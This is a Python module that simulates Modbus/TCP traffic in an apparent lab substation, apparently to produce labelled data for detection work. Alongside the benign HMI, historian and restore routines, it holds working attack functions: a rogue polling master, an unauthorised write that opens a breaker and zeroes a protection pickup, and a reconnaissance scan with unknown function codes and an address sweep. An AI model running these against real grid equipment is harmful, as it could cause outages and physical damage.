"""Hosts that speak Modbus to the lab's substation: an operator's HMI and a historian, and what attackers do.

Requests are written by hand: attackers use functions and addresses that a client library refuses to send.

Source: Modbus Messaging on TCP/IP Implementation Guide V1.0b (MBAP header); Modbus Application Protocol V1.1b3.
"""

import asyncio
import contextlib
import random
import struct
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Final

from ingest.lab.modbus_devices import BREAKER, PICKUP, SETPOINT, UNIT

Endpoint = tuple[str, int]
_ON: Final = 0xFF00
_GONE: Final = (ConnectionError, asyncio.IncompleteReadError)
_ANSWER_S: Final = 2.0


class Client:
    """A Modbus/TCP connection that sends any PDU."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader = reader
        self._writer = writer
        self._transaction = 0

    async def ask(self, pdu: bytes, unit: int = UNIT) -> bytes:
        """Send a PDU and take the response's; empty where none comes in time."""
        self._transaction = (self._transaction + 1) & 0xFFFF
        self._writer.write(struct.pack(">HHHB", self._transaction, 0, len(pdu) + 1, unit) + pdu)
        await self._writer.drain()
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(_ANSWER_S):
                head = await self._reader.readexactly(7)
                (length,) = struct.unpack_from(">H", head, 4)
                return await self._reader.readexactly(max(0, length - 1))
        return b""

    async def read(self, function: int, address: int, count: int) -> bytes:
        """Functions 1 to 4."""
        return await self.ask(struct.pack(">BHH", function, address, count))

    async def write_coil(self, address: int, on: bool) -> bytes:
        """Function 5."""
        return await self.ask(struct.pack(">BHH", 5, address, _ON if on else 0))

    async def write_register(self, address: int, value: int) -> bytes:
        """Function 6."""
        return await self.ask(struct.pack(">BHH", 6, address, value))


@asynccontextmanager
async def client(target: Endpoint, source: str) -> AsyncIterator[Client]:
    """A connection from a local address; closed with the context."""
    reader, writer = await asyncio.open_connection(*target, local_addr=(source, 0))
    try:
        yield Client(reader, writer)
    finally:
        writer.close()


async def hmi(rtu: Endpoint, source: str, every_s: float, seed: int) -> None:
    """The operator: reads the station, and moves the voltage set-point within its limits. Until cancelled."""
    draw = random.Random(f"{seed} hmi")
    async with client(rtu, source) as station:
        while True:
            await station.read(4, 0, 7)
            await station.write_register(SETPOINT, 2000 + draw.randrange(-20, 21))
            await asyncio.sleep(every_s)


async def historian(devices: list[Endpoint], source: str, every_s: float) -> None:
    """Reads every device slowly, and may do no more. Until cancelled."""
    async with contextlib.AsyncExitStack() as stack:
        clients = [await stack.enter_async_context(client(device, source)) for device in devices]
        while True:
            for one in clients:
                await one.read(4, 0, 7)
            await asyncio.sleep(every_s)


async def restore(bays: list[Endpoint], source: str, pickup_a: int) -> None:
    """The operator's answer to an attack: settings back, breakers closed again."""
    for bay in bays:
        async with client(bay, source) as controller:
            await controller.write_register(PICKUP, pickup_a)
            await controller.write_coil(BREAKER, True)


async def rogue_master(devices: list[Endpoint], source: str, seconds: float) -> None:
    """A host that nobody enrolled polls every device twice a second."""
    async with contextlib.AsyncExitStack() as stack:
        clients = [await stack.enter_async_context(client(device, source)) for device in devices]
        for _ in range(max(1, round(seconds * 2))):
            for one in clients:
                await one.read(3, 0, 1)
                await one.read(4, 0, 7)
            await asyncio.sleep(0.5)


async def unauthorised_write(bays: list[Endpoint], source: str) -> None:
    """A host that may only read opens one breaker, and sets the protection of the other to trip at once."""
    async with client(bays[1], source) as controller:
        await controller.write_coil(BREAKER, False)
    async with client(bays[0], source) as controller:
        await controller.write_register(PICKUP, 0)


async def scan(devices: list[Endpoint], source: str, seconds: float) -> None:
    """Reconnaissance: server id, device identification, unknown functions, then an address sweep in steps of 100."""
    requests = [b"\x11", b"\x2b\x0e\x01\x00", *(bytes((function,)) for function in (65, 66, 90, 100))]
    requests += [struct.pack(">BHH", 3, address, 10) for address in range(0, 10_000, 100)]
    for device in devices:
        async with client(device, source) as target:
            for request in requests:
                with contextlib.suppress(*_GONE):
                    await target.ask(request)
                await asyncio.sleep(seconds / len(requests) / len(devices))
